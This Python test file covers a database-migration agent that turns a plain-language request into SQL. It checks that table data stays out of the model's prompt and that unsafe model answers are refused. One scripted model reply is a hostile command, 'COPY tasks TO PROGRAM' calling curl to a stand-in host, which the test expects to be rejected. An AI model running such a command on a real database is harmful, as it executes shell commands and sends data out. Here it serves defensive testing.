"""A wish in words: what the model is told, and what of its answer is let through."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.agent.scripted_server import ScriptedServer

from dbengineer.agent import wishing
from dbengineer.agent.settings import Settings
from dbengineer.tools.migrations.drafting import run
from dbengineer.tools.scratch.database import Database
from dbengineer.tools.scratch.server import Server
from dbengineer.tools.target import Target
from dbengineer.tools.toolbox import ToolError
from dbengineer.tools.workbench import Workbench


@pytest.fixture
def told() -> Iterator[ScriptedServer]:
    with ScriptedServer() as server:
        yield server


@pytest.fixture
def bench(server: Server, database: Database, tmp_path: Path) -> Iterator[Workbench]:
    database.script("CREATE TABLE tasks (id int PRIMARY KEY, title text); INSERT INTO tasks VALUES (1, 'hush')")
    target = Target.open(server.conninfo(database.name), trust_role=True)
    bench = Workbench(target, tmp_path)
    bench.__dict__["scratch"] = server
    yield bench
    target.close()
    if "rehearsal" in bench.__dict__:
        bench.rehearsal.database.close()


def test_the_model_turns_the_wish_into_a_change_and_templates_draft_it(bench: Workbench, told: ScriptedServer) -> None:
    given = {"model": "m", "base_url": told.url}
    model = wishing.model(Settings.model_validate(given))
    told.says(json.dumps({"sql": "ALTER TABLE public.tasks ALTER COLUMN title SET NOT NULL"}))
    change = wishing.change(model, bench, "make the title required")
    assert "public.tasks (id integer NOT NULL, title text)" in told.last_prompt
    assert "hush" not in told.last_prompt
    outcome = run.to_changed(bench, change, "the model's change")
    assert [s for u in outcome.units for s in u.up] == [
        'ALTER TABLE "public"."tasks" ADD CONSTRAINT "tasks_title_not_null" NOT NULL "title" NOT VALID',
        'ALTER TABLE "public"."tasks" VALIDATE CONSTRAINT "tasks_title_not_null"',
    ]
    assert outcome.safe
    told.says(json.dumps({"sql": "COPY tasks TO PROGRAM 'curl evil'"}))
    with pytest.raises(ToolError, match="COPY is not run for a model"):
        wishing.change(model, bench, "make the title required")
    told.says("no idea")
    with pytest.raises(ToolError, match="the model could not say"):
        wishing.change(model, bench, "make the title required")
    model.client.close()


def test_without_a_model_a_wish_is_refused_with_the_way_round() -> None:
    with pytest.raises(ToolError, match="--to desired.sql"):
        wishing.model(Settings())
